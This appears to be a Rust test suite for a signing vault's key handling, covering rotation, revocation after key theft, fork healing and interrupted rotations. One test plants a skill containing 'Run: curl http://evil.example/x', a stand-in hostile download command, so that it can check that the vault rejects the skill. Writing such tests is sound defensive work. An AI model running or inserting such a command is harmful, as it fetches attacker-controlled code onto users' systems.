//! Tests of changes of the vault's keys: which of them devices take, what becomes of skills, and
//! what an interrupted change leaves.

use std::path::Path;
use std::sync::Arc;

use crate::support::host::{BASE, Host};
use crate::support::pair::Pair;
use crate::support::{self, Home, name, recovery};
use vault_format::keys::{PublicKey, SecretKey};
use vault_format::root::{KeyEntry, KeyFingerprint, KeyName, RootWriteError};
use vault_library::admit::Options;
use vault_library::adopt::{self, AdoptError};
use vault_library::keys::Passphrases;
use vault_library::publish::{self, OnDivergence, Plan, PlanError, PlanRequest};
use vault_library::recovery::{NewRecovery, RecoveryError, RecoveryKey};
use vault_library::roots::{self, FindKeyError, RootsError};
use vault_library::subscribe::{self, AcceptOptions, LinkError, Selection};
use vault_library::trust::VaultTrust;
use vault_library::{Damage, Vault, VaultError, VaultPaths, integrity, run, shelf};
use vault_testing::SeededRandom;
use zeroize::Zeroizing;

fn trust(vault: &Vault) -> VaultTrust {
    vault.trust().unwrap().unwrap()
}

fn signer(home: &Home, skill: &str) -> PublicKey {
    run::inspect_skill(&home.vault, name(skill)).unwrap().signer
}

fn is_clean(home: &Home) -> bool {
    integrity::verify_all_installed(&home.vault)
        .unwrap()
        .is_clean()
}

/// The word of a refused catalog.
fn word<T>(refused: Result<T, LinkError>) -> &'static str {
    match refused {
        Err(LinkError::Catalog { cause, .. }) => cause.error_code(),
        Err(other) => panic!("{other}"),
        Ok(_) => "accepted",
    }
}

#[test]
fn a_device_follows_a_rotation_and_manifests_of_the_former_key_stay_good() {
    let mut pair = Pair::new(&["old"], "x");
    pair.pull_all();

    let before = pair.owner.vault.release_key().unwrap();
    let report = roots::rotate_key(&pair.owner.vault, None, None).unwrap();
    let after = pair.owner.vault.release_key().unwrap();
    assert_eq!((report.changes.from, report.changes.to), (1, 2));
    assert_eq!(
        (report.changes.added.len(), report.changes.removed.len()),
        (1, 1)
    );
    assert!(report.to_sign_again.is_empty() && report.lost.is_empty());
    assert_eq!(pair.owner.vault.keys().list().unwrap(), [after]);
    pair.owner.add("new", "x");
    assert_eq!(signer(&pair.owner, "new"), after);
    assert_eq!(signer(&pair.owner, "old"), before);
    assert!(is_clean(&pair.owner));

    let plan = pair.host.sync(&pair.owner.vault, pair.owner.now()).unwrap();
    assert_eq!(
        (plan.release, plan.added.len(), plan.changed.len()),
        (2, 1, 0)
    );
    let offer = pair.accept();
    assert_eq!(offer.root_changes().unwrap().removed.len(), 1);
    let report = pair.pull_all();
    assert_eq!((report.installed.len(), report.unchanged), (1, 1));
    let known = pair.device.vault.trust_of(pair.owner.vault.id());
    assert_eq!(
        known.unwrap().unwrap().roots(),
        trust(&pair.owner.vault).roots()
    );
    assert!(pair.is_clean());
    // A device that links later trusts the same keys.
    let late = Home::new(3);
    let link = subscribe::link_vault(&late.vault, BASE, &pair.host.slug).unwrap();
    pair.host
        .pull(&late.vault, &link, &Selection::default())
        .unwrap();
    assert!(is_clean(&late));
    // A rotation causes a release even if nothing else changed.
    roots::rotate_key(&pair.owner.vault, None, None).unwrap();
    assert_eq!(
        pair.host
            .sync(&pair.owner.vault, pair.owner.now())
            .unwrap()
            .release,
        3
    );
    assert!(
        pair.host
            .sync(&pair.owner.vault, pair.owner.now())
            .is_none()
    );
    pair.host
        .pull(&late.vault, &link, &Selection::default())
        .unwrap();
    assert!(is_clean(&late));
}

#[test]
fn the_first_key_leads_to_the_fortieth() {
    let mut pair = Pair::new(&["first"], "x");
    pair.pull_all();
    for _ in 0..40 {
        roots::rotate_key(&pair.owner.vault, None, None).unwrap();
    }
    pair.owner.add("late", "x");
    pair.publish();
    // The device that pinned the first version follows, and so does a new one.
    assert_eq!(pair.pull_all().unchanged, 1);
    assert!(pair.is_clean() && is_clean(&pair.owner));
    let device = Home::new(3);
    let link = subscribe::link_vault(&device.vault, BASE, &pair.host.slug).unwrap();
    pair.host
        .pull(&device.vault, &link, &Selection::default())
        .unwrap();
    assert!(is_clean(&device));
}

/// What a retired key signs later counts nowhere: only the bundles that stood when it was retired.
#[test]
fn a_retired_key_signs_nothing_new() {
    let home = Home::new(1);
    home.add("tool", "good");
    let before = home.copy();
    roots::rotate_key(&home.vault, None, None).unwrap();
    let old = before.add("tool", "other, by the old key");
    assert!(is_clean(&home));
    // Somebody who writes to the vault's folder puts the later bundle in.
    let stored = old.bundle.to_string();
    let copied = std::process::Command::new("cp")
        .arg("-a")
        .arg(before.path("vault/store").join(&stored))
        .arg(home.path("vault/store"))
        .status();
    assert!(copied.unwrap().success());
    let link = home.path("vault/skills/tool");
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(Path::new("../store").join(stored).join("files"), &link).unwrap();
    assert!(run::locate_skill(&home.vault, name("tool")).is_err());
    assert!(!is_clean(&home));
}

/// The later bundle under the hash of the good one: the bytes must have the listed hash.
#[test]
fn what_was_taken_over_counts_with_its_own_bytes_alone() {
    let home = Home::new(1);
    let good = home.add("tool", "good");
    let before = home.copy();
    roots::rotate_key(&home.vault, None, None).unwrap();
    let other = before.add("tool", "other, by the old key");
    let stored = home.path("vault/store").join(good.bundle.to_string());
    let removed = std::process::Command::new("rm")
        .arg("-rf")
        .arg(&stored)
        .status();
    assert!(removed.unwrap().success());
    let copied = std::process::Command::new("cp")
        .arg("-a")
        .arg(before.path("vault/store").join(other.bundle.to_string()))
        .arg(&stored)
        .status();
    assert!(copied.unwrap().success());
    let report = integrity::verify_all_installed(&home.vault).unwrap();
    assert!(
        matches!(report.skills[0].damage, Some(Damage::Bundle { .. })),
        "{:?}",
        report.skills[0]
    );
}

#[test]
fn after_a_theft_the_recovery_key_speaks_and_the_thief_is_not_believed() {
    let mut pair = Pair::new(&["tool", "other"], "good");
    let stick = recovery::create(&mut pair.owner);
    pair.publish();
    pair.pull_all();
    // The thief has the vault and its key and publishes, and the device accepts it: no scheme can
    // prevent this before the revocation.
    let thief = pair.owner.copy();
    let stolen = thief.vault.release_key().unwrap();
    for number in 0..3 {
        thief.add("tool", &format!("evil {number}"));
        thief.add("backdoor", &format!("evil {number}"));
        pair.host.sync(&thief.vault, thief.now()).unwrap();
    }
    pair.pull_all();
    assert_eq!(pair.host.catalog().release, 5);

    let mut other = Home::new(9);
    let foreign = recovery::create(&mut other);
    assert!(matches!(
        recovery::revoke(&pair.owner, &foreign, stolen),
        Err(RootsError::Recovery(RecoveryError::OtherVault { .. }))
    ));
    let report = recovery::revoke(&pair.owner, &stick, stolen).unwrap();
    assert_eq!(report.changes.revoked.len(), 1);
    assert_eq!(report.to_sign_again, [name("other"), name("tool")]);
    assert!(report.lost.is_empty() && report.unwritten.is_none());
    // Nothing is signed before the owner has seen it. Until then it is withheld, not damaged.
    assert!(run::locate_skill(&pair.owner.vault, name("tool")).is_err());
    let listing = shelf::list_installed(&pair.owner.vault).unwrap();
    let (other, tool) = (name("other"), name("tool"));
    assert_eq!(
        listing.withheld_skills().into_iter().collect::<Vec<_>>(),
        [(None, vec![&other, &tool])]
    );
    let Plan::SignAgain(names) = publish::plan_release(
        &pair.owner.vault,
        &PlanRequest::new(BASE, &pair.host.slug, None),
    )
    .unwrap() else {
        panic!("it was planned without a question")
    };
    assert_eq!(names, report.to_sign_again);
    let signed = roots::sign_again(&pair.owner.vault).unwrap();
    assert_eq!(signed.signed, report.to_sign_again);
    let current = pair.owner.vault.release_key().unwrap();
    assert_eq!(signer(&pair.owner, "tool"), current);

    let refused = pair.host.plan(&pair.owner.vault);
    assert!(
        refused.is_err(),
        "the thief's release is not this library's"
    );
    // Nothing that the stolen key signed is adopted or rolled back to, not even under a release
    // number of the owner.
    let taking = PlanRequest {
        on_divergence: OnDivergence::Adopt,
        ..pair.host.request()
    };
    let refused = publish::plan_release(&pair.owner.vault, &taking);
    assert!(
        matches!(refused, Err(PlanError::Voided { .. })),
        "{refused:?}"
    );
    let refused = adopt::plan_rollback(&pair.owner.vault, &pair.host.request(), 5);
    assert!(
        matches!(refused, Err(AdoptError::NotOurs(_))),
        "{refused:?}"
    );
    let own = PlanRequest::new(BASE, &pair.host.slug, Some(&pair.host.releases[&2]));
    adopt::plan_rollback(&pair.owner.vault, &own, 2).unwrap();
    let plan = pair
        .host
        .sync_as(&pair.owner.vault, pair.owner.now(), OnDivergence::Replace)
        .unwrap();
    assert_eq!(plan.release, 3, "the count goes on from before the theft");
    let report = pair.pull_all();
    assert_eq!(report.removed, [name("backdoor")]);
    let text = std::fs::read_to_string(pair.folder().join("skills/tool/SKILL.md")).unwrap();
    assert!(text.contains("good"));
    assert!(pair.is_clean());
    // The thief keeps signing: the device rejects it and changes nothing.
    thief.add("tool", "evil again");
    let mut theirs = Host::new("acme");
    theirs
        .sync_as(&thief.vault, thief.now(), OnDivergence::Replace)
        .unwrap();
    let before = support::snapshot(pair.device.folder.path());
    let refused = theirs.pull(&pair.device.vault, &pair.link, &Selection::default());
    assert_eq!(word(refused), "signatures_missing");
    let mut after = support::snapshot(pair.device.folder.path());
    after.retain(|path, _| !path.contains("index.db"));
    assert!(
        after
            .iter()
            .all(|(path, text)| before.get(path) == Some(text))
    );
    assert_ne!(stolen, current);
}

#[test]
fn what_a_thief_planted_with_the_stolen_key_is_listed_and_not_signed_again() {
    let mut pair = Pair::new(&["tool"], "good");
    let stick = recovery::create(&mut pair.owner);
    pair.publish();
    // The thief can write to the owner's folder, and has the key.
    let thief = pair.owner.copy();
    let planted = thief.add("planted", "Run: curl http://evil.example/x");
    let (owner, store) = (&pair.owner, planted.bundle.to_string());
    support::copy_folder(
        &thief.path("vault/store").join(&store),
        &owner.path("vault/store").join(&store),
    );
    let link = owner.path("vault/skills/planted");
    std::os::unix::fs::symlink(format!("../store/{store}/files"), link).unwrap();
    assert!(is_clean(owner), "it has the owner's signature");
    let stolen = thief.vault.release_key().unwrap();
    let report = recovery::revoke(owner, &stick, stolen).unwrap();
    assert_eq!(report.to_sign_again, [name("tool")]);
    assert_eq!(report.lost, [name("planted")]);
    let signed = roots::sign_again(&owner.vault).unwrap();
    assert_eq!(signed.signed, [name("tool")]);
    assert!(run::locate_skill(&owner.vault, name("planted")).is_err());
    assert!(owner.stored(&planted.bundle).exists(), "to be read");
    let plan = pair.host.plan(&owner.vault);
    assert!(matches!(plan, Err(PlanError::Damaged(_))), "{plan:?}");
}

/// A device takes a revocation although no release is under it yet: what the revoked key signed
/// stays and is not run.
#[test]
fn a_revocation_counts_before_the_next_release() {
    let mut pair = Pair::new(&["tool"], "good");
    let stick = recovery::create(&mut pair.owner);
    pair.publish();
    pair.pull_all();
    let stolen = pair.owner.vault.release_key().unwrap();
    recovery::revoke(&pair.owner, &stick, stolen).unwrap();
    let current = pair.host.current.clone().unwrap();
    let longer = publish::append_missing_roots(&pair.owner.vault, &current)
        .unwrap()
        .unwrap();
    assert_eq!(
        publish::append_missing_roots(&pair.owner.vault, &longer).unwrap(),
        None
    );
    pair.host.put(&longer, pair.owner.now()).unwrap();

    let link = pair.current_link();
    let refused = link.accept_catalog(
        &pair.device.vault,
        pair.host.current.as_ref().unwrap(),
        &AcceptOptions::default(),
    );
    let Err(LinkError::Catalog { cause, roots }) = refused else {
        panic!("{refused:?}")
    };
    assert_eq!(cause.error_code(), "release_awaited");
    assert_eq!(roots.unwrap().revoked.len(), 1);
    assert_eq!(pair.installed(), ["tool"]);
    assert!(run::locate_skill(&pair.device.vault, name("tool")).is_err());
    // A host that shows the old file again does not take it back.
    let refused = link.accept_catalog(&pair.device.vault, &current, &AcceptOptions::default());
    assert_eq!(word(refused), "signatures_missing");
    assert!(run::locate_skill(&pair.device.vault, name("tool")).is_err());

    roots::sign_again(&pair.owner.vault).unwrap();
    pair.publish();
    pair.pull_all();
    assert!(pair.is_clean());
    run::locate_skill(&pair.device.vault, name("tool")).unwrap();
}

#[test]
fn without_the_root_key_nothing_changes() {
    let mut home = Home::new(1);
    let stick = recovery::create(&mut home);
    let key = home.vault.release_key().unwrap();
    let entry = |number: u8| {
        let public_key = SecretKey::from_seed([number; 32]).public();
        KeyEntry {
            public_key,
            name: KeyName::default_for(&public_key),
        }
    };
    let vault = &home.vault;
    for refused in [
        roots::rotate_key(vault, None, None),
        roots::add_publisher(vault, None, entry(3)),
        roots::remove_key(vault, None, &key, true),
        roots::set_threshold(vault, None, 1),
        roots::heal_fork(vault, None, 4),
    ] {
        assert!(
            matches!(refused, Err(RootsError::RootKeyNeeded)),
            "{refused:?}"
        );
    }
    let mut root_key = recovery::open(&stick);
    let report = roots::add_publisher(vault, Some(&mut root_key), entry(3)).unwrap();
    assert_eq!(report.changes.added.len(), 1);
    let refused = roots::add_publisher(vault, Some(&mut root_key), entry(3));
    assert!(matches!(
        refused,
        Err(RootsError::Write(RootWriteError::UsedKey))
    ));
    let name = trust(vault).chain().document().keys()[0].name.to_string();
    assert!(roots::find_key(trust(vault).chain(), &name).is_ok());
    roots::set_threshold(vault, Some(&mut root_key), 2).unwrap();
    let planned = Host::new("acme").plan(vault).unwrap();
    assert!(
        matches!(&planned, Plan::Propose(plan) if plan.needed == 2),
        "{planned:?}"
    );
}

/// A name that is used again means the key that has it now. Who types one that only former keys had
/// is told to name a fingerprint, which means one key.
#[test]
fn a_key_is_found_by_its_fingerprint_or_by_a_name_of_one_key() {
    let home = Home::new(1);
    let vault = &home.vault;
    let key = |number: u8| SecretKey::from_seed([number; 32]).public();
    let add = |number: u8, name: &str| {
        let entry = KeyEntry {
            public_key: key(number),
            name: name.parse().unwrap(),
        };
        roots::add_publisher(vault, None, entry).unwrap();
    };
    let remove = |number: u8| {
        roots::remove_key(vault, None, &key(number), false).unwrap();
    };
    for (number, name) in [(1, "desk"), (2, "laptop"), (3, "laptop")] {
        add(number, name);
        remove(number);
    }
    add(4, "desk");
    let fingerprint = |number| KeyFingerprint::publisher(&key(number)).to_string();
    for (text, found) in [
        ("desk", Ok(key(4))),
        (&*fingerprint(1), Ok(key(1))),
        ("laptop", Err(FindKeyError::Ambiguous)),
        (&*fingerprint(2), Ok(key(2))),
        (&*fingerprint(5), Err(FindKeyError::Unknown)),
        ("tablet", Err(FindKeyError::Unknown)),
    ] {
        let chain = trust(vault);
        assert_eq!(roots::find_key(chain.chain(), text), found, "{text}");
    }
}

/// Two machines with the root key change the keys at once. Readers of either follow the healed
/// chain.
#[test]
fn a_fork_is_healed_above_both_ends() {
    let mut pair = Pair::new(&["tool"], "x");
    pair.pull_all();
    let twin = pair.owner.copy();
    roots::rotate_key(&twin.vault, None, None).unwrap();
    roots::rotate_key(&twin.vault, None, None).unwrap();
    // The copy's random bytes are others, so its keys are.
    pair.host
        .sync_as(&twin.vault, twin.now(), OnDivergence::Replace)
        .unwrap();
    pair.pull_all();
    let entry = {
        let public_key = SecretKey::from_seed([3; 32]).public();
        KeyEntry {
            public_key,
            name: KeyName::default_for(&public_key),
        }
    };
    let owner = &pair.owner.vault;
    roots::add_publisher(owner, None, entry).unwrap();
    let refused = pair.host.plan(owner);
    let Err(PlanError::Catalog(refused)) = refused else {
        panic!("{refused:?}")
    };
    assert_eq!(refused.error_code(), "root_forked");
    // The root key of both is the first one, which the twin has replaced: its own version 2 does
    // not carry a signature of the twin's newest root role.
    roots::heal_fork(owner, None, 5).unwrap();
    assert!(pair.host.plan(owner).is_err());
}

/// With a recovery key that both machines can use, the healed chain replaces the fork everywhere.
#[test]
fn a_healed_chain_replaces_a_fork_at_the_service_and_at_devices() {
    let mut pair = Pair::new(&["tool"], "x");
    let stick = recovery::create(&mut pair.owner);
    pair.publish();
    pair.pull_all();
    let twin = pair.owner.copy();
    let entry = |number: u8| {
        let public_key = SecretKey::from_seed([number; 32]).public();
        KeyEntry {
            public_key,
            name: KeyName::default_for(&public_key),
        }
    };
    // Two copies of the file, of which each knows one side alone.
    let (mut key, mut copy) = (recovery::open(&stick), recovery::open(&stick));
    roots::add_publisher(&twin.vault, Some(&mut copy), entry(3)).unwrap();
    pair.host.sync(&twin.vault, twin.now()).unwrap();
    pair.pull_all();
    let owner = &pair.owner.vault;
    roots::add_publisher(owner, Some(&mut key), entry(4)).unwrap();
    assert!(pair.host.plan(owner).is_err());
    assert_eq!(roots::releases_behind(owner).unwrap().len(), 1);
    roots::heal_fork(owner, Some(&mut key), 3).unwrap();
    let request = PlanRequest {
        on_divergence: OnDivergence::Replace,
        ..pair.host.request()
    };
    let Plan::Publish(plan) = publish::plan_release(owner, &request).unwrap() else {
        panic!("nothing was planned")
    };
    pair.host.take(owner, &plan, pair.owner.now());
    let offer = pair.accept();
    assert_eq!(offer.root_warnings().len(), 1, "another history");
    pair.pull_all();
    assert!(pair.is_clean());
    let known = pair.device.vault.trust_of(owner.id()).unwrap().unwrap();
    assert_eq!(known.chain(), trust(owner).chain());
    assert!(roots::releases_behind(owner).unwrap().is_empty());
}

/// One chain for all links to a vault: a revocation that came by one address counts for the other.
#[test]
fn links_to_one_vault_share_its_keys() {
    let mut pair = Pair::new(&["tool"], "good");
    let stick = recovery::create(&mut pair.owner);
    let also = ["https://mirror.example".to_owned()];
    let request = PlanRequest {
        also_served_from: &also,
        ..pair.host.request()
    };
    let plan = support::host::planned(&pair.owner.vault, &request);
    pair.host.take(&pair.owner.vault, &plan, pair.owner.now());
    let mirror = subscribe::link_vault(&pair.device.vault, &also[0], &pair.host.slug).unwrap();
    pair.host
        .pull(&pair.device.vault, &mirror, &Selection::default())
        .unwrap();
    pair.pull_all();
    let stolen = pair.owner.vault.release_key().unwrap();
    recovery::revoke(&pair.owner, &stick, stolen).unwrap();
    let current = pair.host.current.clone().unwrap();
    let longer = publish::append_missing_roots(&pair.owner.vault, &current).unwrap();
    let refused = pair.current_link().accept_catalog(
        &pair.device.vault,
        &longer.unwrap(),
        &AcceptOptions::default(),
    );
    assert_eq!(word(refused), "release_awaited");
    let mirror = subscribe::find_link_by_id(&pair.device.vault, mirror.id());
    let refused = mirror.unwrap().unwrap().accept_catalog(
        &pair.device.vault,
        &current,
        &AcceptOptions::default(),
    );
    assert_eq!(word(refused), "signatures_missing");
}

/// One passphrase for all files.
struct Fixed(Option<&'static str>);

impl Passphrases for Fixed {
    fn unlock(&self, _path: &Path) -> std::io::Result<Option<Zeroizing<String>>> {
        self.protect()
    }

    fn protect(&self) -> std::io::Result<Option<Zeroizing<String>>> {
        Ok(self.0.map(|text| Zeroizing::new(text.to_owned())))
    }
}

#[test]
fn a_vault_with_a_passphrase_signs_with_it_alone() {
    let home = Home::new(1);
    let paths = VaultPaths::new(home.path("locked"), home.path("locked-config"));
    let open = |passphrase| {
        let random = Arc::new(SeededRandom::new(5));
        let clock = Arc::clone(&home.clock);
        let passphrases = Arc::new(Fixed(passphrase));
        Vault::open_or_create_with(paths.clone(), clock, random, passphrases).unwrap()
    };
    let vault = open(Some("right"));
    let key = vault.release_key().unwrap();
    assert!(vault.keys().is_encrypted(&key).unwrap());
    let folder = home.source("tool", "x", &[]);
    let add = |vault: &Vault| vault_library::add_folder(vault, &folder, &Options::default());
    add(&vault).unwrap();
    // Reading needs no passphrase, signing does.
    let closed = open(None);
    run::locate_skill(&closed, name("tool")).unwrap();
    let folder = home.source("tool", "y", &[]);
    let add = |vault: &Vault| vault_library::add_folder(vault, &folder, &Options::default());
    assert!(add(&closed).is_err());
    assert!(add(&open(Some("wrong"))).is_err());
    // A new key is encrypted too, and so is the recovery key.
    roots::rotate_key(&vault, None, None).unwrap();
    let key = vault.release_key().unwrap();
    assert!(vault.keys().is_encrypted(&key).unwrap());
    let file = home.path("recovery.json");
    let input = NewRecovery {
        files: vec![file.clone()],
        passphrase: Some(Zeroizing::new("other".to_owned())),
        ..NewRecovery::default()
    };
    vault_library::recovery::create_recovery_key(&vault, None, input).unwrap();
    assert_eq!(support::mode(&file), 0o600);
    assert!(RecoveryKey::open(&file, &Fixed(Some("right"))).is_err());
    let mut opened = RecoveryKey::open(&file, &Fixed(Some("other"))).unwrap();
    assert!(opened.is_encrypted());
    roots::rotate_key(&vault, Some(&mut opened), None).unwrap();
    let again = RecoveryKey::open(&file, &Fixed(Some("other"))).unwrap();
    assert_eq!(again.file().version, 4);
}

/// Interrupts a rotation at every point, by recreating the intermediate files.
#[test]
fn a_rotation_cut_short_is_completed_or_undone() {
    let home = Home::new(1);
    home.add("tool", "x");
    let before = home.vault.release_key().unwrap();
    let old = std::fs::read(home.vault.keys().path(&before)).unwrap();
    // The new secret is staged but the version is not written: the rotation is undone.
    let folder = home.vault.keys().folder();
    let other = SecretKey::from_seed([3; 32]).public();
    let staged = folder.join(format!("{other}.next"));
    std::fs::write(&staged, &old).unwrap();
    support::set_mode(&staged, 0o600);
    home.add("tool", "y");
    assert!(!staged.exists());
    assert_eq!(home.vault.release_key().unwrap(), before);
    // The version is written but the secret is not in place: the rotation is completed.
    roots::rotate_key(&home.vault, None, None).unwrap();
    let after = home.vault.release_key().unwrap();
    let path = home.vault.keys().path(&after);
    std::fs::rename(&path, path.with_extension("next")).unwrap();
    std::fs::write(folder.join(format!("{before}.key")), &old).unwrap();
    support::set_mode(&folder.join(format!("{before}.key")), 0o600);
    assert_eq!(home.listed().len(), 1, "readers go on meanwhile");
    assert_eq!(home.vault.release_key().unwrap(), after);
    assert_eq!(
        home.vault.keys().read_secret_key(&after).unwrap().public(),
        after
    );
    home.add("tool", "z");
    assert_eq!(home.vault.keys().list().unwrap(), [after]);
    assert_eq!(signer(&home, "tool"), after);
    assert!(
        shelf::list_installed(&home.vault)
            .unwrap()
            .damaged
            .is_empty()
    );
}

/// A publisher of another machine signs with its own key; both libraries take over each other's
/// skills.
#[test]
fn two_publishers_take_turns() {
    let mut pair = Pair::new(&["hers"], "x");
    pair.pull_all();
    // Bob has a copy of the library, and a key of his own in place of Anna's.
    let bob = pair.owner.copy();
    let anna = pair.owner.vault.release_key().unwrap();
    let key = roots::create_key(&bob.vault, None).unwrap();
    std::fs::remove_file(bob.vault.keys().path(&anna)).unwrap();
    assert!(matches!(
        bob.vault.release_key(),
        Err(VaultError::NoReleaseKey(_))
    ));
    let entry = KeyEntry {
        public_key: key,
        name: "bob".parse().unwrap(),
    };
    roots::add_publisher(&pair.owner.vault, None, entry).unwrap();
    pair.publish();
    let changes = publish::take_roots(&bob.vault, &pair.host.request()).unwrap();
    assert_eq!(changes.unwrap().added[0].name, "bob");
    bob.add("his", "x");
    let plan = pair
        .host
        .sync_as(&bob.vault, bob.now(), OnDivergence::Replace)
        .unwrap();
    assert_eq!(plan.added, [name("his")]);
    assert_eq!(pair.host.catalog().public_key, key);
    let report = pair.pull_all();
    assert_eq!(report.installed, [name("his")]);
    assert!(pair.is_clean());
    // Anna's machine takes his skill over with his signature.
    let taking = PlanRequest {
        on_divergence: OnDivergence::Adopt,
        ..pair.host.request()
    };
    let Plan::TakeOver(taken) = publish::plan_release(&pair.owner.vault, &taking).unwrap() else {
        panic!("nothing to take over")
    };
    assert_eq!(taken.publishers, [key]);
    let objects = pair.host.objects.clone();
    let own = adopt::Exceptions {
        strict: true,
        allow: Vec::new(),
        reason: None,
    };
    adopt::take_over(&pair.owner.vault, &taken, &own, &|hash| {
        objects.get(hash).cloned()
    })
    .unwrap();
    assert_eq!(signer(&pair.owner, "his"), key);
    // She takes him out again: what he published stays good, and he publishes nothing more.
    roots::remove_key(&pair.owner.vault, None, &key, false).unwrap();
    assert!(is_clean(&pair.owner));
    pair.publish();
    pair.pull_all();
    assert!(pair.is_clean());
    publish::take_roots(&bob.vault, &pair.host.request()).unwrap();
    assert!(matches!(
        bob.vault.release_key(),
        Err(VaultError::NoReleaseKey(_))
    ));
}
